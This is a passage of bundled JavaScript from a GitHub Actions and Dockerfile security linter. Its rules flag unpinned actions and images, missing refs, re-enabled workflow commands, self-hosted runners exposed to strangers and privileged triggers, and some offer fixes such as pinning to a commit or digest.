    sources: ["https://docs.github.com/repositories/creating-and-managing-repositories/renaming-a-repository"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository")
            return;
        const today = upstream?.aboutOf(target)?.fullName;
        const name = `${target.owner}/${target.repo}`;
        if (today === undefined || today.toLowerCase() === name.toLowerCase())
            return;
        report(uses.scalar, `\`${name}\` is called \`${today}\` today`, {
            witness: { ...usesWitness(uses, target, upstream), today },
        });
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/stale-action-refs.js



/* harmony default export */ const stale_action_refs = (defineRule({
    id: "stale-action-refs",
    category: "pinning",
    severity: "low",
    persona: "pedantic",
    isZizmor: true,
    summary: "A pinned commit has no tag",
    risk: "It is no release: nobody promised that it works, advisories don't speak of it, and tools that update pins don't know what comes after it.",
    mend: "Pin to the commit of a release.",
    sources: ["https://docs.zizmor.sh/audits/#stale-action-refs"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref))
            return;
        if (upstream.reachabilityOf(target) === "unreachable" || upstream.tagsOn(target)?.length !== 0)
            return;
        if (upstream.refsOf(target)?.tagObjects.has(target.ref.toLowerCase()))
            return;
        const message = `No tag of \`${target.owner}/${target.repo}\` is at \`${target.ref.slice(0, 12)}\``;
        report(uses.scalar, message, { witness: usesWitness(uses, target, upstream) });
    },
}));

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/knowledge/lists/must-stay-on-tag.js
var must_stay_on_tag = __webpack_require__(4877);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/knowledge/must-stay-on-tag.js

/**
 * Has a reference to be called by its version tag?
 *
 * @param uses `owner/repo/path@ref`
 */
function mustStayOnTag(uses, facts) {
    const [name = "", ref = ""] = uses.split("@");
    if (!/^v\d+\.\d+\.\d+/.test(ref))
        return false;
    return facts.of(must_stay_on_tag/* default */.A).some(({ prefix }) => name.toLowerCase().startsWith(prefix.toLowerCase()));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/transitive-unpinned.js




/* harmony default export */ const transitive_unpinned = (defineRule({
    id: "transitive-unpinned",
    category: "pinning",
    severity: "medium",
    summary: "A pinned action pulls in something that isn't pinned",
    risk: "The pin protects only the first link: what the action names by a tag can be other code tomorrow, in the same job.",
    mend: "Ask its owner to pin what it uses; until then take a version, or an action, that does.",
    sources: ["https://docs.github.com/actions/reference/security/secure-use#using-third-party-actions"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream, facts } = report.repository;
        if (target.kind !== "repository" || !upstream || !(0,model/* isCommit */.WM)(target.ref))
            return;
        const chains = upstream.chainsFrom(target).filter(({ leaf }) => !mustStayOnTag(leaf, facts));
        const [first, ...others] = chains;
        if (!first)
            return;
        const way = [...first.through, first.leaf].map((name) => `\`${name.replace(/@([0-9a-f]{7})[0-9a-f]{33}$/, "@$1")}\``);
        const more = others.length === 0 ? "" : ` (and ${others.length} more)`;
        report(uses.scalar, `${way.slice(0, -1).join(" uses ")} uses ${way.at(-1)}, which isn't pinned${more}`, {
            witness: {
                ...usesWitness(uses, target, upstream),
                chains: chains.slice(0, 20).map(({ through, leaf }) => [...through, leaf]),
            },
        });
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/pin-image.js

/**
 * Pins an image to the digest that its tag means today: `node:22` → `node:22@sha256:…`; nothing else changes.
 *
 * @param place where the reference stands, without quotes: an image of a Dockerfile, or `placeOfImage` of a YAML value
 * @param digest `sha256:…`, whole, as the registry said it
 * @returns null where the file doesn't hold the reference as it is (escapes, variables, a matrix), where it has a digest, and
 *   where `digest` is none
 */
function pinImageFix(place, image, digest) {
    const { file, start, end } = place;
    if (!isPinnable(image) || !(0,model/* isDigest */.Bc)(digest) || file.text.slice(start, end) !== image.text)
        return null;
    return {
        description: `pin it to the image that \`${image.text}\` is today`,
        safe: true,
        // The whole reference, so that it is plain which value changes.
        edits: [{ start, end, text: `${image.text}@${digest}` }],
    };
}
/** All is known of it, and its tag or its name ends it. */
function isPinnable({ text, name, tag }) {
    return /^[\w./:-]+$/.test(text) && name !== "" && tag !== "";
}
/**
 * Where an image reference stands in a YAML value: within quotes, behind `docker://`.
 *
 * @returns null where the value is something else, an expression for one
 */
function placeOfImage(scalar, image) {
    const { value, file } = scalar;
    const [, before = ""] = /^(\s*(?:docker:\/\/)?)/.exec(value) ?? [];
    if (value.slice(before.length).trimEnd() !== image.text)
        return null;
    return { file, ...scalar.spanOf(before.length, before.length + image.text.length) };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-image.js



/**
 * What is to be said of an image reference; null where it names a digest.
 *
 * @param origin what an unknown part of it comes from: "an expression"
 * @param needsDigest whether a tag without a digest is more than a matter of hygiene
 */
function unpinned(image, origin, needsDigest) {
    switch ((0,model/* pinningOf */.fM)(image)) {
        case "digest":
            return null;
        case "unknown":
            return unknownImage(origin);
        case "none":
            return {
                message: `\`${image.text}\` names neither a tag nor a digest: it is whatever \`latest\` is today`,
                details: {},
            };
        case "latest":
            return { message: `\`${image.text}\` is whatever was pushed last`, details: {} };
        case "tag":
            return {
                message: `\`${image.text}\` is a tag, which can be pushed again, not a digest`,
                details: {
                    ...(needsDigest ? { severity: "medium", persona: "regular" } : { severity: "low", persona: "pedantic" }),
                    confidence: (0,model/* isOpen */.nT)(image) ? "medium" : "high",
                },
            };
    }
}
/** What is to be said where nothing of the reference is known. */
function unknownImage(origin) {
    return {
        message: `The image comes from ${origin}, so nothing shows that it is pinned`,
        details: { confidence: "low" },
    };
}
/** The options of the rules on images. */
const IMAGE_OPTIONS = {
    digests: (0,config_options/* switchOption */.IL)("Take a tag without a digest for more than hygiene: medium severity, and for everyone"),
};
/**
 * Reports an image that is not pinned, with the fix that adds the digest which its registry has today.
 *
 * @param whole where the reference stands as it is; null where it is made of parts
 */
function reportImage(report, place, image, { message, details }, whole) {
    const digest = whole && isPinnable(image) ? report.repository.upstream?.digestOf(image) : undefined;
    const isGone = digest === null;
    report(place, isGone ? `${message}; its registry has no such image` : message, {
        ...details,
        fix: whole && digest ? pinImageFix(whole, image, digest) : null,
        witness: { image: image.name, ref: image.tag, digest: digest ?? null, source: digest ? "registry" : null },
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-base-image.js


/* harmony default export */ const unpinned_base_image = (defineRule({
    id: "unpinned-base-image",
    category: "pinning",
    severity: "medium",
    summary: "A Dockerfile builds on an image that is not pinned to a digest",
    risk: "The tag can be pushed again with another image at any time. The next build then runs and ships what is in it, from the same commit.",
    mend: "Name the digest, and keep the tag for readers: `FROM node:22.1@sha256:…`. Dependabot and Renovate keep it up to date.",
    sources: [
        "https://docs.docker.com/build/building/best-practices/#pin-base-image-versions",
        "https://docs.docker.com/reference/dockerfile/#understand-how-arg-and-from-interact",
    ],
    fixes: "safe",
    options: IMAGE_OPTIONS,
    examples: { flagged: [], silent: [] },
    dockerfile({ images }, report) {
        for (const image of images)
            unpinned_base_image_judge(image, report);
    },
}));
function unpinned_base_image_judge(place, report) {
    const found = unpinned(place.image, "a variable whose value isn't known", report.options.digests);
    if (!found)
        return;
    const isWhole = place.defaults.length === 0 && !isBareSource(place);
    const related = place.defaults.map((used) => ({ place: used, message: `the default of \`${used.name}\` is here` }));
    const details = { ...found.details, ...(isBareSource(place) && { confidence: "medium" }), related };
    reportImage(report, place, place.image, { message: found.message, details }, isWhole ? place : null);
}
/** A build may put a folder or another image in the place of a bare name: `--build-context tools=…`. */
function isBareSource({ role, image }) {
    return (role === "copy" || role === "mount") && image.text === image.name && !image.name.includes("/");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-images.js





/** Where an image comes from that nothing tells. */
const ORIGIN = "an expression";
/* harmony default export */ const unpinned_images = (defineRule({
    id: "unpinned-images",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    summary: "A container image is not pinned to a digest",
    risk: "The tag can be pushed again with another image at any time. What is in it then runs in your job, beside its secrets and its token.",
    mend: "Name the digest, and keep the tag for readers: `node:22.1@sha256:…`.",
    sources: ["https://docs.docker.com/reference/cli/docker/image/pull/#pull-an-image-by-digest-immutable-identifier"],
    fixes: "safe",
    options: IMAGE_OPTIONS,
    examples: { flagged: [], silent: [] },
    container({ image, job }, report) {
        if (image)
            unpinned_images_judge(image, image.value, job.matrix, report);
    },
    uses({ uses }, report) {
        if (uses.target.kind === "docker")
            judgeReference(uses.scalar, uses.target.image, [], report);
    },
    action(action, report) {
        const image = action.kind === "docker" ? action.image : undefined;
        if (!image?.value.startsWith("docker://"))
            return;
        unpinned_images_judge(image, image.value.slice("docker://".length), null, report);
    },
}));
function unpinned_images_judge(scalar, text, matrix, report) {
    const whole = (0,model/* wholeExpression */.wY)(scalar)?.expression;
    const images = whole
        ? (0,expressions/* resultLeaves */.uo)(whole).flatMap((leaf) => imagesOfLeaf(scalar, leaf, matrix))
        : imagesOfText(scalar, text, matrix);
    // Of one place only the first is told.
    for (const { place, image, related } of images.sort((a, b) => rankOf(a) - rankOf(b))) {
        if (image)
            judgeReference(place, image, related, report);
        else
            sayUnknown(place, report);
    }
}
/** What surely moves, what nobody knows, and then tags. */
const RANKS = { none: 0, latest: 0, unknown: 1, tag: 2, digest: 3 };
function rankOf({ image }) {
    return RANKS[image ? (0,model/* pinningOf */.fM)(image) : "unknown"];
}
/** `node:${{ matrix.version }}`: the image for each value that is known, told at the value. */
function imagesOfText(scalar, text, matrix) {
    return (0,model/* filledTexts */.Np)(scalar, text, matrix).map((filled) => {
        const image = (0,model/* parseImage */.zZ)(filled.text);
        const place = ((0,model/* pinningOf */.fM)(image) !== "unknown" && filled.last) || scalar;
        return { place, image, related: place === scalar ? [] : [usedHere(scalar)] };
    });
}
function usedHere(place) {
    return { place, message: "it is used here" };
}
function imagesOfLeaf(scalar, leaf, matrix) {
    const unknown = { place: scalar, image: null, related: [] };
    if (leaf.kind === "literal") {
        return typeof leaf.value === "string" ? [{ ...unknown, image: (0,model/* parseImage */.zZ)(leaf.value) }] : [];
    }
    const path = (0,expressions/* contextPath */.VJ)(leaf);
    if (path?.segments[0] !== "matrix" || !matrix)
        return [unknown];
    const { values, isOpen } = matrix.valuesOf(path.segments.slice(1));
    if (values.length === 0)
        return isOpen ? [unknown] : [];
    // Null gives an empty text, and that no container.
    return values
        .filter(({ isNull }) => !isNull)
        .map((value) => (0,model/* expressionsIn */.l$)(value).length > 0
        ? unknown
        : { place: value, image: (0,model/* parseImage */.zZ)(value.value), related: [usedHere(scalar)] });
}
function sayUnknown(scalar, report) {
    const { message, details } = unknownImage(ORIGIN);
    report(scalar, message, details);
}
function judgeReference(place, image, related, report) {
    const found = image.name === "" ? null : unpinned(image, ORIGIN, report.options.digests);
    if (!found)
        return;
    const { message, details } = found;
    reportImage(report, place, image, { message, details: { ...details, related } }, placeOfImage(place, image));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/pinning/policies.js

/** What a reference has to be: a commit, any ref, or whatever its author likes. */
const POLICIES = ["hash-pin", "ref-pin", "any"];
/** The policy of the most specific glob that matches; `hash-pin` where none does. */
function policyFor(target, policies) {
    let best = { policy: "hash-pin", weight: -1 };
    for (const [glob, policy] of policies) {
        const weight = specificity(glob);
        if (weight > best.weight && usesMatcher([glob])(target))
            best = { policy, weight };
    }
    return best.policy;
}
/** How much a glob says: the characters that it fixes; without any wildcard it beats all that have one. */
function specificity(glob) {
    const fixed = glob.replace(/[*?]|\[[^\]]*\]|\{[^}]*\}/g, "").length;
    return fixed === glob.length ? 1000 + fixed : fixed;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-uses.js







/* harmony default export */ const unpinned_uses = (defineRule({
    id: "unpinned-uses",
    category: "pinning",
    severity: "high",
    isZizmor: true,
    fixes: "safe",
    summary: "An action or reusable workflow is not pinned to a commit",
    risk: "A tag or branch can be moved to other code at any time, by its owner or by whoever took over the account. That code then runs in your job with its secrets and its token.",
    mend: "Name the full 40-digit commit and keep the version as a comment: `uses: octo-org/thing@1234567890abcdef1234567890abcdef12345678 # v1.2.3`. `trustchain pin-actions-to-sha` finds them all.",
    sources: ["https://docs.github.com/actions/reference/security/secure-use#using-third-party-actions"],
    options: {
        policies: (0,config_options/* globMapOption */.mD)(POLICIES, "What a reference has to be, by globs of `owner/repo[/path]`, the most specific first: `hash-pin` a commit, `ref-pin` any ref, `any` whatever"),
        branches: (0,config_options/* choiceOption */.zu)(["pin", "tag", "report"], "pin", "What a fix makes of a branch: `pin` its head, `tag` the newest release, `report` nothing"),
        comment: (0,config_options/* textOption */.vU)(DEFAULT_COMMENT, "What a fix writes behind `# `; `{tag}` stands for the version"),
        "allow-immutable-tags": (0,config_options/* switchOption */.IL)("Take the tag of a release that can't be changed any more for a pin"),
    },
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        if (target.kind === "malformed" && /^[\w.-]+\/[\w./-]+@?$/.test(uses.text.trim())) {
            report(uses.scalar, `\`${uses.text.trim()}\` names no ref, let alone a full commit SHA`);
        }
        if (target.kind !== "repository" || (0,model/* isCommit */.WM)(target.ref))
            return;
        if (policyFor(target, report.options.policies) !== "hash-pin")
            return;
        const { repository } = report;
        const { upstream } = repository;
        if (repository.lock?.pinOf(uses.scalar.file.path, uses))
            return;
        const resolution = upstream?.resolve(target);
        // What isn't there can't be pinned: `unresolvable-ref` speaks.
        if (resolution?.kind === "no-ref" || resolution?.kind === "no-repository")
            return;
        if (report.options["allow-immutable-tags"] && upstream?.isImmutable(target))
            return;
        const witness = usesWitness(uses, target, upstream);
        if (mustStayOnTag(uses.text, report.repository.facts)) {
            const message = `\`${uses.text}\` has to be called by a version tag, so it can't be pinned`;
            report(uses.scalar, message, { severity: "info", witness });
        }
        else {
            const fix = upstream && unpinned_uses_fixOf({ repository, uses, target }, upstream, report.options);
            const why = repository.isLocked(uses)
                ? "; `actions.lock` has to agree with this line: relock with `gh actions-lock`"
                : "";
            report(uses.scalar, `${describe(target)}, not a full commit SHA${why}`, { fix, witness });
        }
    },
}));
function unpinned_uses_fixOf(place, upstream, options) {
    const { target } = place;
    const resolution = upstream.resolve(target);
    if (resolution.kind !== "commit")
        return null;
    if (!resolution.isBranch || options.branches === "pin") {
        return pinFix(place, resolution, describePin(target, resolution.source), options.comment);
    }
    const release = options.branches === "tag" ? upstream.newestRelease(target) : undefined;
    return release ? pinFix(place, release, `pin it to \`${release.name}\`, the newest release`, options.comment) : null;
}
/** What isn't asked upstream may have moved since. */
function describePin({ ref }, source) {
    if (source === "refs")
        return `pin it to the commit that \`${ref}\` is today`;
    return `pin it to the commit that \`${ref}\` is ${source === "lock" ? "in `actions.lock`" : "elsewhere in this repository"}`;
}
function describe({ owner, repo, path, ref }) {
    const name = [owner, repo, path].filter((part) => part !== "").join("/");
    if (/^[0-9a-f]{7,39}$/.test(ref))
        return `\`${name}\` is at \`${ref}\`, which looks like a shortened commit`;
    return `\`${name}\` is at \`${ref}\``;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unresolvable-ref.js



/* harmony default export */ const unresolvable_ref = (defineRule({
    id: "unresolvable-ref",
    category: "pinning",
    severity: "high",
    summary: "An action's repository or ref does not exist",
    risk: "The run fails, or has failed for a while unseen. And whoever registers the free name, or pushes the missing tag, has code in your job.",
    mend: "Name a repository and a tag that exist; look at how the name is spelt.",
    sources: ["https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsuses"],
    examples: { flagged: [], silent: [] },
    uses({ uses }, report) {
        const { target } = uses;
        const { upstream } = report.repository;
        if (target.kind === "malformed" && uses.text.includes("@")) {
            report(uses.scalar, `\`${uses.text.trim()}\` is no \`owner/repo@ref\``);
        }
        if (target.kind !== "repository" || !upstream)
            return;
        const name = `\`${target.owner}/${target.repo}\``;
        const refs = upstream.refsOf(target);
        const witness = usesWitness(uses, target, upstream);
        if (refs === null) {
            report(uses.scalar, `There is no repository ${name}, or it can't be read`, { witness });
        }
        else if (!(0,model/* isCommit */.WM)(target.ref) && upstream.resolve(target).kind === "no-ref") {
            report(uses.scalar, `${name} has neither a tag nor a branch \`${target.ref}\``, { witness });
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/runner/insecure-commands.js



const USES_COMMANDS = /::(?:set-env|add-path)\b/;
const SWITCH = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
/* harmony default export */ const insecure_commands = (defineRule({
    id: "insecure-commands",
    category: "runner",
    severity: "high",
    isZizmor: true,
    fixes: "safe",
    summary: "Workflow commands that set environment variables are switched back on",
    risk: "Anything that prints to the log can then set variables and `PATH` for the steps that follow: a test's output is enough to run code.",
    mend: "Remove `ACTIONS_ALLOW_UNSECURE_COMMANDS`; write to the files that `GITHUB_ENV` and `GITHUB_PATH` name.",
    sources: ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"],
    examples: { flagged: [], silent: [] },
    env({ block }, report) {
        if (block.dynamic) {
            const message = `This block is an expression, which may set \`${SWITCH}\``;
            report(block.dynamic, message, { confidence: "low", persona: "auditor" });
        }
        for (const { entry, name, value } of block.entries) {
            if (name.toUpperCase() !== SWITCH || !value)
                continue;
            if ((0,model/* isSwitchedOn */.JG)(value)) {
                const edit = (block.map && removeEntry(block.map, entry)) ?? removeEntry(block.parent, block.entry);
                // A step that uses the commands fails without the switch.
                const isUsed = USES_COMMANDS.test(entry.key.file.text);
                const fix = edit && { description: `remove \`${SWITCH}\``, safe: !isUsed, edits: [edit] };
                report(entry.key, "Any line of the log may set environment variables", { fix });
            }
            else if ((0,model/* constantText */._r)(value) === undefined) {
                const message = `An expression decides whether any line of the log may set environment variables`;
                report(value, message, { confidence: "low", persona: "auditor" });
            }
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/runner/self-hosted-runner.js





/* harmony default export */ const self_hosted_runner = (defineRule({
    id: "self-hosted-runner",
    category: "runner",
    severity: "high",
    isZizmor: true,
    summary: "Runs that strangers start land on a self-hosted runner",
    risk: "A self-hosted machine is used again for later runs and stands in your network. What a stranger's pull request leaves on it waits for the next job and its secrets.",
    mend: "Run jobs for pull requests on GitHub's machines, or on runners that are thrown away after each job; or let the job run only for branches of this repository: `if: github.event.pull_request.head.repo.full_name == github.repository`.",
    sources: ["https://docs.github.com/actions/reference/security/secure-use#hardening-for-self-hosted-runners"],
    examples: { flagged: [], silent: [] },
    job(job, report) {
        const { runner } = job;
        // What else there is to say, only an auditor hears.
        if (!runner || (report.persona === "regular" && !isNamedFor(job, report.repository)))
            return;
        const selfHosted = runner.labels.filter(isSelfHosted);
        const started = startedLabels(job, runner, report.repository);
        for (const [label, start] of started.values()) {
            const message = `Strangers can start this job by ${start}, and it runs on a self-hosted runner`;
            report(label.node, message, { related: usesOfLabel(label, runner) });
        }
        for (const label of selfHosted)
            if (!started.has(label.node))
                reportForAuditors(label, runner, report);
        if (selfHosted.length > 0 || started.size > 0)
            return;
        if (runner.group)
            reportUnsure(runner.group, "A runner group may hold self-hosted runners", report);
        else if (runner.isOpen)
            reportUnsure(runner.entry.value, "This expression may come to a self-hosted runner", report);
    },
}));
const NAMES_IT = /self-hosted/i;
/** Do its file or those that call it hold the name? That is cheaper than to find out who starts it. */
function isNamedFor({ workflow }, repository) {
    const callers = repository.callersOf(workflow).map((call) => call.workflow);
    return [workflow, ...callers].some(({ file }) => NAMES_IT.test(file.text));
}
function isSelfHosted({ text }) {
    return text.toLowerCase() === "self-hosted";
}
/**
 * By its place, each self-hosted label on which strangers can start the job, with the first event by which they can, as
 * Markdown; conditions that keep them out are seen through.
 */
function startedLabels(job, runner, repository) {
    const found = new Map();
    const events = new Set(repository.workflows.flatMap(({ triggers }) => triggers.map(({ event }) => event)));
    for (const event of events) {
        if (!isFiredByAnyone(event) || keepsStrangersOut(job, event))
            continue;
        for (const start of startsBy(event, job.workflow, repository)) {
            const inputs = inputsGiven(job.workflow, start);
            const labels = runner.labelsWhere((expression) => strangersRuns(expression, event, inputs)).filter(isSelfHosted);
            for (const label of labels) {
                if (!found.has(label.node))
                    found.set(label.node, [label, describeStart(event, start)]);
            }
        }
    }
    return found;
}
function usesOfLabel({ fromMatrix }, runner) {
    return fromMatrix ? [{ place: runner.entry.value, message: "it is used here" }] : [];
}
function reportForAuditors(label, runner, report) {
    const related = usesOfLabel(label, runner);
    report(label.node, "This job runs on a self-hosted runner", { severity: "medium", persona: "auditor", related });
}
function reportUnsure(place, message, report) {
    report(place, message, { severity: "medium", confidence: "low", persona: "auditor" });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/triggers/dangerous-triggers.js


const WHY = {
    pull_request_target: "`pull_request_target` runs with this repository's secrets and token for pull requests of strangers",
    workflow_run: "`workflow_run` runs with this repository's secrets and token after workflows that strangers can start",
    issue_comment: "`issue_comment` runs with this repository's secrets and token whenever a stranger writes a comment",
};
/* harmony default export */ const dangerous_triggers = (defineRule({
    id: "dangerous-triggers",
    category: "triggers",
    severity: "high",
    isZizmor: true,
    summary: "Strangers can start this workflow with the repository's own rights",
    risk: "The run has a write token and the secrets, and its cache is the default branch's. One step that builds, tests or only prints what the stranger sent gives all of that away.",
    mend: "Use `pull_request`, which gets neither secrets nor a write token from a fork. Where that isn't enough, split the work: an unprivileged workflow for the stranger's code, and one for the rest that only reads its results as data.",
    sources: [
        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
        "https://docs.github.com/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target",
    ],
    examples: { flagged: [], silent: [] },
    workflow(workflow, report) {
        for (const trigger of workflow.triggers) {
            const message = WHY[trigger.event];
            if (message === undefined || isLoneLabeler(trigger, workflow))
                continue;
            const isHarmless = workflow.jobs.every((job) => holdsNothing(holdingsOf(job)) && !bringsInOthersCode(job));
            report(trigger.key, message, { confidence: isHarmless ? "low" : "medium" });
        }
    },
}));
function isLoneLabeler(trigger, workflow) {
    const [job, ...others] = workflow.jobs;
    if (trigger.event !== "pull_request_target" || job?.kind !== "normal" || others.length > 0)
        return false;
    return job.steps.length === 1 && job.steps[0]?.uses?.is("actions/labeler") === true;
}
/** May code or files that the run's cause brought get into the job? Whatever isn't plainly harmless counts. */
function bringsInOthersCode(job) {
    return job.kind === "reusable" || job.steps.some(fetchesOthersCode);
}
const FETCHES = /\bgh\s+(?:pr|run)\b|refs\/pull|\bpull\/|\bgit\b|head_|head\./;
function fetchesOthersCode(step) {
    const { uses, run } = step;
    if (run)
        return FETCHES.test(run.text);
    if (!uses)
        return false;
    if (uses.is("actions/checkout"))
        return step.input("ref") !== undefined || step.input("repository") !== undefined;
    return uses.target.kind !== "repository" || !uses.text.startsWith("actions/") || uses.is("actions/download-artifact");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/dependabot-merge.js


/** Actions that merge Dependabot's pull requests, in lower case. */
const MERGING_ACTIONS = new Set([
    "ahmadnassri/action-dependabot-auto-merge",
    "fastify/github-action-merge-dependabot",
    "koj-co/dependabot-pr-action",
    "ridedott/merge-me-action",
    "lewagon/dependabot-auto-merge",
]);
const MENTIONS_DEPENDABOT = /dependabot/i;
/** Where a step merges a pull request of Dependabot's without anybody looking at it; null where it doesn't. */
function dependabotMerge(step) {
    const { uses, run, owner } = step;
    if (uses?.target.kind === "repository")
        return MERGING_ACTIONS.has((0,model/* nameOf */.Vb)(uses.target)) ? uses.scalar : null;
    if (!run?.scalar.mayContain("merge") || !MENTIONS_DEPENDABOT.test(owner.file.text))
        return null;
    for (const command of run.script.commands) {
        const { name, args } = (0,lib_shell/* effectiveCommand */.l1)(command);
        const [first, second] = args.filter(({ literal }) => !literal?.startsWith("-"));
        if (name?.literal !== "gh" || first?.literal !== "pr" || second?.literal !== "merge")
            continue;
        return { file: run.scalar.file, ...run.scalar.spanOf(command.start, command.end) };
    }
    return null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/release-age.js
const UNITS = new Map([
    ["minute", 1 / 1440],
    ["hour", 1 / 24],
    ["day", 1],
    ["week", 7],
    ["month", 30],
    ["year", 365],
]);
const SHORT = {
    m: "minute",
    min: "minute",
    h: "hour",
    hr: "hour",
    d: "day",
    w: "week",
    mo: "month",
    y: "year",
};
/**
 * The days that an age of Renovate's stands for: `14 days`, `1 week`, `36h`; undefined for anything else.
 *
 * @see Renovate documentation, `minimumReleaseAge`
 */
function daysOf(age) {
    const match = /^\s*(\d{1,6}(?:\.\d{1,3})?)\s*([a-z]{1,8})\s*$/i.exec(age);
    if (!match)
        return undefined;
    const word = match[2].toLowerCase();
    const unit = UNITS.get(SHORT[word] ?? word.replace(/s$/, ""));
    return unit === undefined ? undefined : Number(match[1]) * unit;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/renovate-presets.js
/**
 * Renovate's own presets, as far as they matter here; all others of its own say nothing of it.
 *
 * @see Renovate documentation, "Presets": Default, Docker, Helpers, Security, npm and Full Config Presets
 */
const PRESETS = new Map([
    [
        "config:best-practices",
        { extends: ["docker:pinDigests", "helpers:pinGitHubActionDigests", "security:minimumReleaseAgeNpm"] },
    ],
    ["docker:pinDigests", { pins: { docker: true } }],
    ["helpers:pinGitHubActionDigests", { pins: { actions: true } }],
    ["helpers:pinGitHubActionDigestsToSemver", { pins: { actions: true } }],
    [":pinDigests", { pins: { actions: true, docker: true } }],
    [":pinDigestsDisabled", { pins: { actions: false, docker: false } }],
    ["security:minimumReleaseAgeNpm", { releaseAge: { datasource: "npm", days: 3 } }],
    ["npm:unpublishSafe", { releaseAge: { datasource: "npm", days: 3 } }],
    [":automergeAll", { automerge: true }],
    [":automergeDigest", { automerge: true }],
    [":automergeMajor", { automerge: true }],
    [":automergeMinor", { automerge: true }],
    [":automergePatch", { automerge: true }],
    [":automergeStableNonMajor", { automerge: true }],
    [":automergeLinters", { automerge: true }],
    [":automergeTesters", { automerge: true }],
    [":automergeTypes", { automerge: true }],
    [":automergeDisabled", { automerge: false }],
]);
/**
 * Does a preset come from elsewhere, so that nobody here knows what it says?
 *
 * @see Renovate documentation, "Presets": those of its own are named `group:name` or `:name`
 */
function isRemotePreset(name) {
    return !OWN.test(name.replace(/\(.*$/s, ""));
}
/** The groups of presets that come with Renovate; `default:x` is `:x`. */
const OWN = /^(?:abandonments|config|customManagers|default|docker|global|group|helpers|mergeConfidence|monorepo|npm|packages|preview|regexManagers|replacements|schedule|security|workarounds|):[\w.-]+$/;
/** Without its arguments, and under one name. */
function presetName(name) {
    return name.replace(/\(.*$/s, "").replace(/^default:/, ":");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/renovate.js


const renovate_cache = new WeakMap();
/**
 * What Renovate's settings come to; null where that can't be known, for they extend presets of elsewhere, or it is switched
 * off. Package rules are applied in their order, so that the last one that matches wins.
 *
 * @see Renovate documentation, "Configuration Options", `packageRules`
 */
function judgeRenovate(renovate) {
    let verdict = renovate_cache.get(renovate);
    if (verdict === undefined) {
        verdict = isOff(renovate) || isOpen(renovate.root) ? null : verdictOf(renovate.root);
        renovate_cache.set(renovate, verdict);
    }
    return verdict;
}
/** Is Renovate switched off here? */
function isOff({ root }) {
    return root.scalar("enabled")?.typed === false;
}
/** What it extends is elsewhere; rules may extend presets, too. */
function isOpen(root) {
    const ignored = new Set(textsIn(root.get("ignorePresets")).map(({ value }) => value));
    const maps = [root, ...rulesIn(root)];
    const presets = maps.flatMap((map) => textsIn(map.get("extends")));
    return presets.some(({ value }) => !ignored.has(value) && isRemotePreset(value));
}
function verdictOf(root) {
    const state = new State();
    const ignored = new Set(textsIn(root.get("ignorePresets")).map(({ value }) => presetName(value)));
    for (const preset of textsIn(root.get("extends")))
        state.extend(presetName(preset.value), preset, ignored);
    state.settings(root, EVERYTHING);
    for (const name of ["github-actions", "docker", "dockerfile"]) {
        const manager = root.map(name);
        if (manager)
            state.settings(manager, {
                ...EVERYTHING,
                isAll: false,
                pins: [name === "github-actions" ? "actions" : "docker"],
            });
    }
    for (const rule of rulesIn(root)) {
        const scope = scopeOf(rule);
        for (const preset of textsIn(rule.get("extends")))
            state.extend(presetName(preset.value), preset, ignored);
        if (scope)
            state.settings(rule, scope);
    }
    const managers = textsIn(root.get("enabledManagers")).map(({ value }) => value);
    return { ...state.verdict(), updatesActions: managers.length === 0 || managers.includes("github-actions") };
}
const EVERYTHING = { isAll: true, pins: ["actions", "docker"], datasource: null };
/** Keys by which a rule picks single packages: an exception that somebody thought about. */
const PICKS_PACKAGES = /^(?:match|exclude)(?:Package|Dep|Source|Registry|Current|File|Base|Repositories|Confidence|New|Jsonata)/;
/** Null for a rule about single packages. */
function scopeOf(rule) {
    const matchers = rule.entries.filter(({ key }) => /^(?:match|exclude)[A-Z]/.test(key.value));
    const narrowing = matchers.filter(({ key, value }) => !(PICKS_PACKAGES.test(key.value) && takesAll(value)));
    if (narrowing.some(({ key }) => PICKS_PACKAGES.test(key.value)))
        return null;
    const words = (name) => textsIn(rule.get(name)).map(({ value }) => value);
    const managers = words("matchManagers");
    const datasources = words("matchDatasources");
    const isAll = narrowing.every(({ key }) => key.value === "matchUpdateTypes" && coversUpdates(words("matchUpdateTypes")));
    return { isAll, pins: pinsOf(managers, datasources), datasource: datasourceOf(managers, datasources) };
}
function takesAll(node) {
    return textsIn(node).some(({ value }) => ["*", "**", ".*", "/.*/"].includes(value));
}
function coversUpdates(types) {
